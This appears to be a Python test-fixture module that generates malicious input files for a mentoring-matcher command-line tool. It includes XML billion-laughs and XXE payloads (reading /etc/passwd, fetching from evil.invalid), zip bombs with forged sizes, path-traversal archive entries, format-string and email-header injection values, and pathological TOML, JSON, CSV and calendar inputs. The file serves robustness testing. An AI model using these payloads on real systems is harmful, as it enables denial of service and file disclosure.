"""Files that are small and want to be endless: archives, XML, TOML, JSON, CSV and calendars."""

from __future__ import annotations

import io
import json
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import NamedTuple

import xlsxwriter

PROGRAMME = "[programme]\nstart = 2027-01-11\nend = 2027-02-05\n"
EMPLOYEES = "employee_id,function,level\na,Law,1\nm,Law,9\n"
CHOICES = "mentee_id,rank,mentor_id\na,1,m\n"
MEGABYTE = 1 << 20


class Bomb(NamedTuple):
    """A bomb: its name, how it is laid into a folder, the command over that folder, and codes that will do."""

    name: str
    lay: Callable[[Path], None]
    command: tuple[str, ...] = ("check", "cohort")
    codes: tuple[int, ...] = (1,)


def plain(folder: Path, files: Mapping[str, str | bytes] | None = None) -> None:
    """Write a good cohort into `cohort`, with these files in place of its own."""
    (folder / "cohort").mkdir(exist_ok=True)
    given = {"programme.toml": PROGRAMME, "employees.csv": EMPLOYEES, "preferences.csv": CHOICES, **(files or {})}
    for name, content in given.items():
        (folder / "cohort" / name).write_bytes(content if isinstance(content, bytes) else content.encode())


# --- workbooks ----------------------------------------------------------------------------------------------


def _parts() -> dict[str, bytes]:
    """The parts of a good workbook."""
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        for name, text in (("employees", EMPLOYEES), ("preferences", CHOICES)):
            sheet = book.add_worksheet(name)
            for row, line in enumerate(text.splitlines()):
                sheet.write_row(row, 0, line.split(","))
    with zipfile.ZipFile(content) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _workbook(folder: Path, change: Callable[[dict[str, bytes]], None]) -> None:
    (folder / "cohort").mkdir()
    (folder / "cohort" / "programme.toml").write_text(PROGRAMME)
    parts = _parts()
    change(parts)
    with zipfile.ZipFile(folder / "cohort" / "cohort.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPES = {
    "billion laughs": (f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>', "&l9;"),
    "quadratic": (f'<!DOCTYPE x [<!ENTITY q "{"q" * 50_000}">]>', "&q;" * 20_000),
    "file": ('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>', "&f;"),
    "network": ('<!DOCTYPE x [<!ENTITY f SYSTEM "http://evil.invalid/x">]>', "&f;"),
    "parameter": ('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd"> %p;]>', "x"),
}
PARTS = {
    "texts": "xl/sharedStrings.xml",
    "sheet": "xl/worksheets/sheet1.xml",
    "styles": "xl/styles.xml",
    "book": "xl/workbook.xml",
    "links": "xl/_rels/workbook.xml.rels",
}


def _doctype(kind: str, part: str, encoding: str) -> Callable[[Path], None]:
    def lay(folder: Path) -> None:
        def change(parts: dict[str, bytes]) -> None:
            head, inside = DOCTYPES[kind]
            text = parts[part].decode()
            _, _, rest = text.partition("?>\n")
            rest = rest or text
            end = rest.rfind("</")
            # Inside of a text, where there is one: elsewhere it is white space that grows.
            place = rest.find("</t>") if "</t>" in rest else end
            made = f"{head}{rest[:place]}{inside}{rest[place:]}"
            parts[part] = f'<?xml version="1.0" encoding="{encoding}"?>{made}'.encode(encoding)

        _workbook(folder, change)

    return lay


def _deep_xml(folder: Path) -> None:
    _workbook(folder, lambda parts: parts.update({"xl/styles.xml": b"<a>" * 500_000 + b"</a>" * 500_000}))


def _attributes(folder: Path) -> None:
    many = b"<styleSheet " + b" ".join(b'a%d="x"' % n for n in range(300_000)) + b"/>"
    _workbook(folder, lambda parts: parts.update({"xl/styles.xml": many}))


def _zeros(part: str, size: int) -> Callable[[Path], None]:
    """A part that unpacks to so many bytes of a text that never ends."""

    def lay(folder: Path) -> None:
        (folder / "cohort").mkdir()
        (folder / "cohort" / "programme.toml").write_text(PROGRAMME)
        with zipfile.ZipFile(folder / "cohort" / "cohort.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in _parts().items():
                if name.casefold() != part.casefold():
                    archive.writestr(name, data)
            with archive.open(part, "w", force_zip64=True) as file:
                file.write(b"<sst><si><t>")
                for _ in range(size // MEGABYTE):
                    file.write(b" " * MEGABYTE)
                file.write(b"</t></si></sst>")

    return lay


def _lying(part: str, size: int) -> Callable[[Path], None]:
    """The same, with sizes in the archive that say it is small."""

    def lay(folder: Path) -> None:
        _zeros(part, size)(folder)
        path = folder / "cohort" / "cohort.xlsx"
        data = bytearray(path.read_bytes())
        entry = data.rfind(part.encode())
        head = data.rfind(b"PK\x01\x02", 0, entry)
        struct.pack_into("<I", data, head + 24, 400)  # the size unpacked, in the directory of the archive
        extra, length = struct.unpack_from("<H", data, head + 30)[0], len(part)
        if extra:  # what says more about sizes is called something else
            struct.pack_into("<H", data, head + 46 + length, 0x9999)
        path.write_bytes(bytes(data))

    return lay


def _many_entries(folder: Path) -> None:
    _workbook(folder, lambda parts: parts.update({f"xl/media/{n}": b"" for n in range(200_000)}))


def _outside(folder: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        parts["../../outside.txt"] = parts["/tmp/outside.txt"] = parts["..\\outside.txt"] = b"x"  # noqa: S108
        links = parts["xl/_rels/workbook.xml.rels"].decode()
        parts["xl/_rels/workbook.xml.rels"] = links.replace(
            "worksheets/sheet1.xml", "../../../../../etc/passwd"
        ).encode()

    _workbook(folder, change)


def _dimension(folder: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        sheet = parts["xl/worksheets/sheet1.xml"].decode()
        parts["xl/worksheets/sheet1.xml"] = sheet.replace('ref="A1:C3"', 'ref="A1:XFD1048576"').encode()

    _workbook(folder, change)


def _far_cell(quote: str, place: str = "XFD1048576") -> Callable[[Path], None]:
    """A cell at the end of the sheet, as whoever wants to be overlooked would write it."""

    def lay(folder: Path) -> None:
        def change(parts: dict[str, bytes]) -> None:
            where = f" r={quote}{place}{quote}" if place else ""
            cell = f"<row r={quote}1048576{quote}><c{where}><v>1</v></c></row></sheetData>"
            sheet = parts["xl/worksheets/sheet1.xml"].decode()
            parts["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", cell).encode()

        _workbook(folder, change)

    return lay


def _far_cell_alone(folder: Path) -> None:
    """The same without a number of the row, and the place of the cell in a row that says another."""

    def change(parts: dict[str, bytes]) -> None:
        cell = '<row><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>'
        sheet = parts["xl/worksheets/sheet1.xml"].decode()
        parts["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", cell).encode()

    _workbook(folder, change)


def _shared(
    change: Callable[[str], str], name: str = "xl/sharedStrings.xml", end: str = "</si>"
) -> Callable[[Path], None]:
    """A long text that very many cells share: the file is small, and what is read of it is not."""

    def lay(folder: Path) -> None:
        def made(parts: dict[str, bytes]) -> None:
            texts = parts.pop("xl/sharedStrings.xml").decode()
            place = texts.count("<si>")
            texts = texts.replace("</sst>", f"<si><t>{'x' * 200_000}</t></si></sst>")
            if end != "</si>":
                texts = texts.replace("<si>", "<x:si>").replace("</si>", end).replace("<sst", '<sst xmlns:x="x"')
            parts[name] = texts.encode()
            cells = (f'<row r="{row}"><c r="B{row}" t="s"><v>{place}</v></c></row>' for row in range(9, 40_000))
            sheet = parts["xl/worksheets/sheet1.xml"].decode()
            sheet = sheet.replace("</sheetData>", change("".join(cells)) + "</sheetData>")
            parts["xl/worksheets/sheet1.xml"] = sheet.encode()

        _workbook(folder, made)

    return lay


def _merged(folder: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        sheet = parts["xl/worksheets/sheet1.xml"].decode()
        merged = '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        parts["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", merged).encode()

    _workbook(folder, change)


def _nested(folder: Path) -> None:
    """A workbook inside a workbook inside ... (42.zip): nobody asks for what lies inside."""
    data = b"0" * MEGABYTE
    for _ in range(5):
        content = io.BytesIO()
        with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
            for place in range(16):
                archive.writestr(f"{place}.zip", data)
        data = content.getvalue()
    plain(folder, {})
    (folder / "cohort" / "cohort.xlsx").write_bytes(data)
    for name in ("employees.csv", "preferences.csv"):
        (folder / "cohort" / name).unlink()


# --- text ---------------------------------------------------------------------------------------------------


def _toml(text: str) -> Callable[[Path], None]:
    return lambda folder: plain(folder, {"programme.toml": PROGRAMME + text})


def _frame(line: str) -> Callable[[Path], None]:
    return lambda folder: plain(folder, {"programme.toml": f"{PROGRAMME}{line}\n"})


def _scenarios(text: str) -> Callable[[Path], None]:
    def lay(folder: Path) -> None:
        plain(folder)
        (folder / "cases.toml").write_text(text, "utf-8")

    return lay


def _csv(name: str, text: str) -> Callable[[Path], None]:
    return lambda folder: plain(folder, {name: text})


def _run(files: Mapping[str, bytes]) -> Callable[[Path], None]:
    """A run, with these files in place of its own."""

    def lay(folder: Path) -> None:
        from click.testing import CliRunner

        from matcher.cli import cli

        plain(folder)
        solve = ["solve", f"{folder}/cohort", "-o", f"{folder}/run", "--no-report", "--workers", "1"]
        done = CliRunner().invoke(cli, solve, prog_name="matcher")
        if done.exit_code:
            raise AssertionError(done.stderr)
        CliRunner().invoke(cli, ["calendars", f"{folder}/cohort", f"{folder}/run"], prog_name="matcher")
        for name, content in files.items():
            (folder / "run" / name).write_bytes(content)

    return lay


DEEP = b"[" * 200_000 + b"]" * 200_000
JSONS = {
    "deep": DEEP,
    "deep key": b'{"status":' + DEEP + b"}",
    "digits": b'{"status": "optimal", "seed": ' + b"9" * 100_000 + b"}",
    "exponent": b'{"seed": 1e999999999}',
    "constants": b'{"seed": NaN, "goals": Infinity}',
    "repeated": b"{" + b",".join(b'"status": 1' for _ in range(300_000)) + b"}",
    "surrogate": b'{"status": "\\ud800", "goals": "\\udfff"}',
    "no text": b"\xff\xfe\x00\x00",
    "a list": b"[1, 2]",
    "null": b"null",
}


def _ics(lines: str) -> Callable[[Path], None]:
    def lay(folder: Path) -> None:
        plain(folder)
        (folder / "calendars").mkdir()
        text = "BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:x\n" + lines + "END:VCALENDAR\n"
        (folder / "calendars" / "a.ics").write_text(text.replace("\n", "\r\n"), "utf-8", newline="")

    return lay


def _event(rule: str, start: str = "20270111T090000Z") -> str:
    return f"BEGIN:VEVENT\nUID:x\nDTSTAMP:20260101T000000Z\nDTSTART:{start}\nDURATION:PT1H\n{rule}END:VEVENT\n"


IMPORT = ("import-calendars", "calendars", "cohort", "--workers", "1")
RULES = {
    "each second": "RRULE:FREQ=SECONDLY\n",
    "each second, counted": "RRULE:FREQ=SECONDLY;COUNT=1000000000\n",
    "count without end": "RRULE:FREQ=DAILY;COUNT=99999999999999999999\n",
    "never": "RRULE:FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30\n",
    "each minute of all": "RRULE:FREQ=MINUTELY;BYHOUR=0,1,2,3,4,5,6;BYSECOND=0,1,2,3\n",
    "interval of nought": "RRULE:FREQ=DAILY;INTERVAL=0\n",
    "interval without end": "RRULE:FREQ=YEARLY;INTERVAL=999999999\n",
    "many lists": "RRULE:FREQ=YEARLY;BYDAY=" + ",".join(["MO"] * 50_000) + "\n",
    "set positions": "RRULE:FREQ=SECONDLY;BYSETPOS=366;BYHOUR=3;BYMONTH=2;BYMONTHDAY=31\n",
    "many dates": "RDATE:" + ",".join(["20270112T090000Z"] * 100_000) + "\n",
    "long ago": "RRULE:FREQ=SECONDLY;UNTIL=20270101T000000Z\n",
}


def _bombs() -> list[Bomb]:
    made = [
        Bomb(f"xlsx: {kind} in {name}, {encoding}", _doctype(kind, part, encoding), codes=(0, 1))
        for kind in DOCTYPES
        for name, part in PARTS.items()
        for encoding in ("utf-8", "utf-16")
    ]
    made += [
        Bomb("xlsx: deep XML", _deep_xml, codes=(0, 1)),
        Bomb("xlsx: 300,000 attributes", _attributes, codes=(0, 1)),
        Bomb("xlsx: a text of 3 GB", _zeros("xl/sharedStrings.xml", 3 << 30)),
        Bomb("xlsx: 3 GB that nobody reads", _zeros("xl/media/x.bin", 3 << 30)),
        Bomb("xlsx: a text of 2 GB that says 400 bytes", _lying("xl/sharedStrings.xml", 2 << 30)),
        Bomb("xlsx: a text of 150 MB that says 400 bytes", _lying("xl/sharedStrings.xml", 150 << 20)),
        Bomb("xlsx: a text of 2 GB that says 400 bytes, in capitals", _lying("xl/SHAREDSTRINGS.xml", 2 << 30)),
        Bomb("xlsx: a text of 900 MB in capitals", _zeros("XL/SharedStrings.xml", 900 << 20)),
        Bomb("xlsx: a sheet of 2 GB that says 400 bytes", _lying("xl/worksheets/SHEET1.xml", 2 << 30)),
        Bomb("xlsx: 200,000 entries", _many_entries, codes=(0, 1)),
        Bomb("xlsx: entries outside", _outside, codes=(0, 1)),
        Bomb("xlsx: a huge dimension", _dimension, codes=(0,)),
        Bomb("xlsx: a cell at the end", _far_cell('"')),
        Bomb("xlsx: a cell at the end, in apostrophes", _far_cell("'"), codes=(0, 1)),
        Bomb("xlsx: a cell at the end, in small letters", _far_cell('"', "xfd1048576"), codes=(0, 1)),
        Bomb("xlsx: a cell at the end, without a row", _far_cell_alone, codes=(0, 1)),
        Bomb(
            "xlsx: a cell at the end, by the number of a sign",
            _far_cell('"', place="&#88;FD1048576"),
            codes=(0, 1),
        ),
        Bomb(
            "xlsx: a cell at the end, far behind the last row",
            _far_cell('"', place="A99999999999999999999"),
            codes=(0, 1),
        ),
        Bomb(
            "xlsx: a cell at the end, a column of four letters", _far_cell('"', place="ZZZZ1048576"), codes=(0, 1)
        ),
        Bomb(
            "xlsx: a cell at the end, a row that is far and a cell without a place",
            _far_cell('"', place=""),
            codes=(0, 1),
        ),
        Bomb("xlsx: a shared text", _shared(str)),
        Bomb("xlsx: a shared text, in apostrophes", _shared(lambda cells: cells.replace('"', "'"))),
        Bomb("xlsx: a shared text, behind a formula", _shared(lambda cells: cells.replace("<v>", "<f>A1</f><v>"))),
        Bomb(
            "xlsx: a shared text, with spaces",
            _shared(lambda cells: cells.replace("<v>", "<v >").replace("=", " = ")),
        ),
        Bomb("xlsx: a shared text, in capitals", _shared(str, "xl/SHAREDStrings.xml")),
        Bomb(
            "xlsx: a shared text, in a number of a sign", _shared(lambda cells: re.sub("<v>.", "<v>&#49;", cells))
        ),
        Bomb(
            "xlsx: a shared text, in CDATA",
            _shared(lambda cells: re.sub("<v>(.+?)</v>", r"<v><![CDATA[\1]]></v>", cells)),
        ),
        Bomb("xlsx: a shared text, in a namespace", _shared(str, end="</x:si>")),
        Bomb("xlsx: a shared text, ends with a space", _shared(str, end="</x:si >")),
        Bomb("xlsx: all cells merged", _merged, codes=(0, 1)),
        Bomb("xlsx: archives in archives (42.zip)", _nested),
    ]
    made += [Bomb(f"toml: {name}", lay) for name, lay in TOMLS.items()]
    made += [
        Bomb(f"scenarios: {name}", _scenarios(text), ("scenario", "cohort", "cases.toml"))
        for name, text in SCENARIOS.items()
    ]
    made += [
        Bomb(
            "csv: a cell of 64 MB",
            _csv("employees.csv", EMPLOYEES + f'"{"x" * (64 << 20)}",Law,1\n'),
            codes=(0, 1),
        ),
        Bomb("csv: 500,000 columns", _csv("employees.csv", EMPLOYEES.replace("level", "level" + ",x" * 500_000))),
        Bomb("csv: 2,000,000 blank lines", _csv("preferences.csv", CHOICES + "\n" * 2_000_000), codes=(0,)),
        Bomb("csv: a quotation mark that never ends", _csv("employees.csv", EMPLOYEES + '"' + "x,\n" * 2_000_000)),
        Bomb("csv: 2,000,000 quotation marks", _csv("employees.csv", EMPLOYEES + '"' * 2_000_001)),
        Bomb("csv: choices up to rank 10^300", _csv("preferences.csv", CHOICES + f"a,{'9' * 300},m\n")),
        Bomb(
            "csv: a letter of 100,000 braces",
            _csv("letters.csv", "kind,subject,text\nmentor,x," + "{" * 100_001 + "\n"),
        ),
        Bomb(
            "csv: nested formats",
            _csv("letters.csv", "kind,subject,text\nmentor,x," + "{a:" * 5000 + "}" * 5000 + "\n"),
        ),
    ]
    for name, content in JSONS.items():
        made += [
            Bomb(f"json: {name} in summary.json", _run({"summary.json": content}), ("report", "cohort", "run")),
            Bomb(
                f"json: {name} in summary.json, verify",
                _run({"summary.json": content}),
                ("verify", "cohort", "run"),
                (1, 4),
            ),
            Bomb(
                f"json: {name} in certificate.json",
                _run({"certificate.json": content}),
                ("verify", "cohort", "run"),
                (1, 4),
            ),
            Bomb(
                f"json: {name} in published.json",
                _run({"published.json": content}),
                ("verify", "cohort", "run"),
                (1, 4),
            ),
        ]
    made += [Bomb(f"ics: {name}", _ics(_event(rule)), IMPORT, (0, 1)) for name, rule in RULES.items()]
    made += [
        Bomb("ics: from year 1", _ics(_event("RRULE:FREQ=HOURLY\n", "00010101T000000Z")), IMPORT, (0, 1)),
        Bomb("ics: deep", _ics("BEGIN:VEVENT\n" * 50_000 + "END:VEVENT\n" * 50_000), IMPORT, (0, 1)),
        Bomb("ics: a line of 32 MB", _ics(_event("DESCRIPTION:" + "x" * (32 << 20) + "\n")), IMPORT, (0, 1)),
        Bomb("ics: folded a million times", _ics(_event("EXDATE:2\n" + " 0\n" * 1_000_000)), IMPORT, (0, 1)),
        Bomb("ics: quotation marks", _ics(_event('DTSTART;X="' + '"a"' * 100_000 + ":1\n")), IMPORT, (0, 1)),
        Bomb("ics: parameters", _ics(_event("EXDATE" + ";A=b" * 200_000 + ":20270101T000000Z\n")), IMPORT, (0, 1)),
        Bomb(
            "ics: a zone outside", _ics(_event("EXDATE;TZID=../../etc/passwd:20270101T000000\n")), IMPORT, (0, 1)
        ),
    ]
    return made


TOMLS: Mapping[str, Callable[[Path], None]] = {
    "deep lists": _frame("x = " + "[" * 100_000 + "]" * 100_000),
    "deep tables": _frame("x = " + "{a=" * 100_000 + "1" + "}" * 100_000),
    "a long dotted key": _frame(".".join(["a"] * 50_000) + " = 1"),
    "a long dotted table": _toml("[" + ".".join(["a"] * 50_000) + "]\n"),
    "many tables": _toml("".join(f"[t{n}]\n" for n in range(50_000))),
    "digits": _frame("timezone = " + "9" * 100_000),
    "hexadecimal digits": _frame("timezone = 0x" + "f" * 100_000),
    "hexadecimal seed": _toml("[goals]\nseed = 0x" + "f" * 100_000 + "\n"),
    "binary minutes": _toml("[sessions]\nminutes = 0b" + "1" * 100_000 + "\n"),
    "an exponent": _toml("[sessions]\nminutes = 1e999999999\n"),
    "nan": _toml("[sessions]\nminutes = nan\n"),
    "a zone outside": _frame('timezone = "../../etc/passwd"'),
    "a zone from the root": _frame('timezone = "/etc/passwd"'),
    "a folder of zones": _frame('timezone = "Europe"'),
    "a zone with NUL": _frame('timezone = "Europe/\\u0000Moscow"'),
    "a zone of 10,000 letters": _frame('timezone = "' + "a" * 10_000 + '"'),
    "a title of nested formats": _toml('[invitations]\ntitle = "' + "{a:" * 10_000 + "}" * 10_000 + '"\n'),
    "a title that reaches in": _toml('[invitations]\ntitle = "{mentee.__class__}"\n'),
    "a title with a width": _toml('[invitations]\ntitle = "{mentee:>999999999}"\n'),
    "a link that is none": _toml('[invitations]\nlink = "javascript:alert(1)"\n'),
    "an organiser of two lines": _toml('[invitations]\norganiser_email = "a@b.example\\nBcc: x@y.example"\n'),
    "100,000 windows": _toml('[calendar]\nworking_hours = "' + "09:00-10:00," * 100_000 + '"\n'),
    "minutes for years": _toml("[sessions]\nminutes = 999999999\n"),
    "from year 1 to year 9999": lambda folder: plain(
        folder, {"programme.toml": "[programme]\nstart = 0001-01-01\nend = 9999-12-31\n"}
    ),
}
SCENARIOS: Mapping[str, str] = {
    "a grid without end": "[grid]\n"
    + "".join(
        f"{key} = {list(range(1, 2000))}\n"
        for key in ("goals.seed", "capacity.mentees_per_mentor", "sessions.minimum")
    ),
    "a trillion seeds": '[case.x]\nseeds = "1..1000000000000"\n',
    "seeds without end": '[case.x]\nseeds = "1..' + "9" * 5000 + '"\n',
    "deep": "x = " + "[" * 100_000 + "]" * 100_000,
    "digits": "[case.x]\nset.goals.seed = 0x" + "f" * 100_000 + "\n",
    "a case outside": '[case."../../x"]\nset.goals.seed = 1\n',
    "a case of the root": '[case."/tmp/x"]\nset.goals.seed = 1\n',
    "a device": "[case.CON]\nset.goals.seed = 1\n",
    "a name of 300 letters": f"[case.{'a' * 300}]\nset.goals.seed = 1\n",
    "an escape": '[case."\\u001b[31m"]\nset.goals.seed = 1\n',
    "two forms of a letter": '[case."\\u00e9"]\nset.goals.seed = 1\n[case."e\\u0301"]\nset.goals.seed = 2\n',
}
BOMBS = tuple(_bombs())


def unpacked(data: bytes) -> int:
    """How many bytes a deflated stream unpacks to, at most 2^40; for those who want to check a bomb."""
    size, stream = 0, zlib.decompressobj(-15)
    for start in range(0, len(data), MEGABYTE):
        size += len(stream.decompress(data[start : start + MEGABYTE]))
    return size


def manifest() -> str:
    """The names of all bombs, as JSON."""
    return json.dumps([bomb.name for bomb in BOMBS])
